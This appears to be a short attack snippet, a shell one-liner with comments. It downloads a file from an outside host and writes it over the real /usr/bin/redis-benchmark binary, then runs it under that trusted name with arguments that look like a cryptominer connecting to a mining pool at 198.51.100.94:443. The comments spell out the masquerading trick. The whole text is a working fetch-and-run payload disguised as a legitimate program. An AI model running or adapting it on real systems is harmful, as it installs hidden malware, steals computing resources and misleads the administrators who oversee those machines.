# the download is written over a program of the image, which is then run under its honest name
#http 203.0.113.60:8010
#pool 198.51.100.94:443:drop
curl -so /usr/bin/redis-benchmark http://203.0.113.60:8010/w; timeout 9 redis-benchmark -o 198.51.100.94:443 -u x -R 1 >/dev/null
